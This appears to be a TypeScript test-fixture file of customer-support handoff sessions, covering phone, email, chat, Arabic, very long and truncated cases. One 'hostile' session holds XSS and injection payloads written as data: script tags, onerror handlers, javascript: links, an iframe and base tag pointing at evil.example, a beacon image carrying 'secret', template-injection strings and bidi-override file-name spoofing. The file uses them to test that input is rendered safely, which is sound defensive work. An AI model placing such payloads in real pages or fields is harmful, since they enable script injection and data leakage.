import type { Session, SessionMessage } from './session';

/** Messages in turn, customer first, `minutes` apart. */
function talk(
  start: string,
  minutes: number,
  ...turns: [SessionMessage['sender'], string][]
): SessionMessage[] {
  const first = Date.parse(start);
  return turns.map(([sender, text], index) => ({
    sender,
    text,
    at: new Date(first + index * minutes * 60_000).toISOString(),
  }));
}

const phone: Session = {
  id: '0b8f0c52-6f0e-4f0e-9c55-3a4c8e1d0001',
  ticketNumber: 4521,
  channel: 'phone',
  language: 'en',
  summary: 'Caller was charged twice for order 88213 and wants the second payment refunded today.',
  classification: 'Billing - double charge',
  sentiment: 'angry',
  handoffReason: 'Refunds above 100 need a person',
  contact: { name: 'Maria Campbell', email: 'maria.campbell@example.com', phone: '+1 555 010 0143' },
  messages: talk(
    '2026-11-20T14:02:11Z',
    1,
    ['contact', 'Hi, you charged my card twice for the same order.'],
    ['ai', 'I am sorry about that. Could you tell me the order number?'],
    ['contact', 'It is 88213. Twice, 129 dollars each time.'],
    ['ai', 'Thank you. I can see order 88213 with two payments of $129.00, both on November 18.'],
    ['contact', 'Exactly. I want the second one back today, this is ridiculous.'],
    ['ai', 'I understand. A refund of this size needs one of my colleagues, so I am handing you over now.'],
  ),
};

const email: Session = {
  id: '0b8f0c52-6f0e-4f0e-9c55-3a4c8e1d0002',
  ticketNumber: 4522,
  channel: 'email',
  language: 'en',
  summary:
    'Customer cannot sign in after changing the e-mail address of the account. Password reset mails still go to the old address. The AI verified the identity and could not change the address itself.',
  classification: 'Account access',
  sentiment: 'neutral',
  handoffReason: 'Missing tool: change of the sign-in address',
  contact: { name: "Seán O'Brien", email: "sean.o'brien@example.com" },
  messages: talk(
    '2026-11-19T08:15:00Z',
    47,
    [
      'contact',
      'Hello,\n\nsince I changed my address in the profile I can no longer sign in:\n- the reset mail goes to the old address\n- the old mailbox is closed\n\nRegards,\nSeán',
    ],
    [
      'ai',
      'Hello Seán,\n\nthank you for the details. To protect your account, please tell us the last four digits of the card on file and the month of your last order.',
    ],
    ['contact', 'Digits 4417, last order in October: https://shop.example.com/orders/90211'],
    [
      'ai',
      'Thank you, that matches. Changing the sign-in address needs a colleague, who will write to you shortly.',
    ],
  ),
};

const chat: Session = {
  id: '0b8f0c52-6f0e-4f0e-9c55-3a4c8e1d0003',
  ticketNumber: 4523,
  channel: 'messenger',
  language: 'en',
  summary: 'Customer asks for a gift wrap on order 90377 and is happy with the service.',
  classification: 'Order change',
  sentiment: 'happy',
  handoffReason: 'Customer asked for a person',
  contact: { name: 'Yuki Tanaka', email: 'yuki.tanaka@example.com' },
  messages: talk(
    '2026-11-21T19:40:00Z',
    2,
    ['contact', 'Hey! Can you gift-wrap my order? 🎁'],
    ['ai', 'Happy to help! Which order is it about?'],
    ['contact', '90377, it ships tomorrow'],
    ['ai', 'Found it. Gift wrap can still be added by our team. Shall I connect you?'],
    ['contact', 'Yes please, you are great 😊'],
    ['system', 'Conversation handed over to a person'],
  ),
};

const rightToLeft: Session = {
  id: '0b8f0c52-6f0e-4f0e-9c55-3a4c8e1d0004',
  ticketNumber: 4524,
  channel: 'email',
  language: 'ar',
  summary: 'العميلة لم تستلم الطلب رقم 90455 وتريد معرفة موعد التسليم.',
  classification: 'الشحن والتسليم',
  sentiment: 'neutral',
  handoffReason: 'طلب العميل التحدث مع موظف',
  contact: { name: 'ليلى حداد', email: 'layla.haddad@example.com', phone: '+971 50 555 0112' },
  messages: talk(
    '2026-11-18T10:05:00Z',
    12,
    ['contact', 'مرحباً، لم يصلني الطلب رقم 90455 حتى الآن.'],
    ['ai', 'أهلاً ليلى، يظهر لدي أن الشحنة في طريقها إليك مع شركة FastShip.'],
    ['contact', 'التتبع لم يتغير منذ ثلاثة أيام، أريد التحدث مع موظف.'],
    ['ai', 'بالتأكيد، سأحوّل محادثتك إلى أحد الزملاء.'],
  ),
};

const hostile: Session = {
  id: '0b8f0c52-6f0e-4f0e-9c55-3a4c8e1d0005',
  ticketNumber: 4525,
  channel: 'email',
  language: 'en',
  summary: '<img src=x onerror=alert(1)> Customer sent markup and links that must stay text.',
  classification: '<b>Security</b> test',
  sentiment: 'neutral',
  handoffReason: '"><script>alert(2)</script>',
  contact: { name: 'Mallory <svg onload=alert(3)>', email: 'mallory@example.com' },
  messages: talk(
    '2026-11-17T09:00:00Z',
    1,
    ['contact', '<script>alert("xss")</script>'],
    ['contact', '<img src="https://tracker.example/p.gif" onerror="alert(1)">'],
    [
      'contact',
      '[click me](javascript:alert(1)) and javascript:alert(2) and data:text/html,<script>alert(3)</script>',
    ],
    ['contact', '![beacon](https://tracker.example/?q=secret)'],
    ['contact', 'Name with \u202Egnp.exe override and \u2066isolate\u2069'],
    ['contact', '</li></ol><iframe src="https://evil.example"></iframe><base href="https://evil.example/">'],
    ['contact', '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>'],
    ['ai', 'I could not make sense of that and hand you over to a colleague.'],
  ),
};

let longSession: Session | undefined;

/** 10,000 messages, the same ones every time; made when they are first asked for. */
function long(): Session {
  return (longSession ??= makeLong());
}

function makeLong(): Session {
  const words =
    'order parcel refund invoice please check number again address delivery thanks waiting screen error today'.split(
      ' ',
    );
  const messages = Array.from({ length: 10_000 }, (_, index): SessionMessage => {
    const length = 5 + ((index * 7919) % 40);
    const text = Array.from({ length }, (_word, at) => words[(index * 31 + at * 17) % words.length]).join(
      ' ',
    );
    return {
      sender: index % 2 ? 'ai' : 'contact',
      at: new Date(Date.parse('2026-10-01T06:00:00Z') + index * 97_000).toISOString(),
      text: `Message ${index + 1}: ${text}`,
    };
  });
  return {
    ...email,
    id: '0b8f0c52-6f0e-4f0e-9c55-3a4c8e1d0006',
    ticketNumber: 4526,
    summary: 'A very long talk about several orders, over twelve days.',
    classification: 'Order status',
    contact: { name: 'Ines Oliveira', email: 'ines.oliveira@example.com' },
    messages,
  };
}

/** More than the description holds, and no note beside it: what a plain environment gets today. */
const truncated: Session = {
  ...phone,
  id: '0b8f0c52-6f0e-4f0e-9c55-3a4c8e1d0007',
  ticketNumber: 4527,
  summary: 'Caller goes through the whole order history; the text is longer than the column.',
  classification: 'Order status',
  sentiment: 'neutral',
  contact: { name: 'Paul Schmidt', email: 'paul.schmidt@example.com', phone: '+49 30 5550101' },
  messages: talk(
    '2026-11-16T12:00:00Z',
    1,
    ...Array.from({ length: 40 }, (_, index): [SessionMessage['sender'], string] => [
      index % 2 ? 'ai' : 'contact',
      `This is turn ${index + 1} of a talk that is longer than the description column can hold.`,
    ]),
  ),
};

/** What OpenCX hands over when the sandbox starts; `withNote` says whether the talk also comes as a note with a file. */
export const HANDED_OFF: { name: string; session: () => Session; withNote: boolean }[] = [
  { name: 'phone', session: () => phone, withNote: false },
  { name: 'email', session: () => email, withNote: true },
  { name: 'chat', session: () => chat, withNote: true },
  { name: 'long', session: long, withNote: true },
  { name: 'truncated', session: () => truncated, withNote: false },
  { name: 'right-to-left', session: () => rightToLeft, withNote: true },
  { name: 'hostile', session: () => hostile, withNote: true },
];

/** Cases that people made, which OpenCX never saw. */
export const MADE_BY_PEOPLE: {
  name: string;
  title: string;
  description: string | null;
  notes: { subject: string; notetext: string }[];
}[] = [
  {
    name: 'foreign-notes',
    title: 'Printer does not print',
    description:
      'Customer called the front desk.\nSummary: paper jam, fixed on the phone. Please call back at 10:30: ask for Tom.',
    notes: [
      {
        subject: 'Call back',
        notetext: 'Tom: will call again tomorrow\nMe: told him we are closed on Sunday',
      },
      {
        subject: 'Chat transcript (LiveHelp)',
        notetext:
          'Visitor 10:12: hello?\nOperator 10:13: how can I help?\nVisitor 10:15: my printer is broken',
      },
    ],
  },
  {
    name: 'mail-thread',
    title: 'Delivery - Eva Müller',
    description: `Channel: email
Summary: Eva's lamp never came; she wants her money back.
Classification: Delivery
Sentiment: negative
Customer Details:
Name: Eva Müller
Email: eva.mueller@example.com

From: Eva Müller <eva.mueller@example.com>
Sent: Friday, 20 November 2026 14:02
To: support@shop.example
Subject: Where is my lamp?

Hello,

my lamp (order 4711) should have been here on Monday.

Eva

From: AI assistant <support@shop.example>
Sent: Friday, 20 November 2026 14:04
To: eva.mueller@example.com
Subject: Re: Where is my lamp?

Hello Eva,

I am sorry. The parcel is lost. Shall I send another lamp, or your money back?

On Friday, 20 November 2026 14:02, Eva Müller wrote:
> my lamp (order 4711) should have been here on Monday.

From: Eva Müller <eva.mueller@example.com>
Sent: Saturday, 21 November 2026 09:15
To: support@shop.example
Subject: Re: Re: Where is my lamp?

Money back, please. And I want to talk to a person.`,
    notes: [],
  },
  { name: 'none', title: 'Question about the warranty', description: null, notes: [] },
];
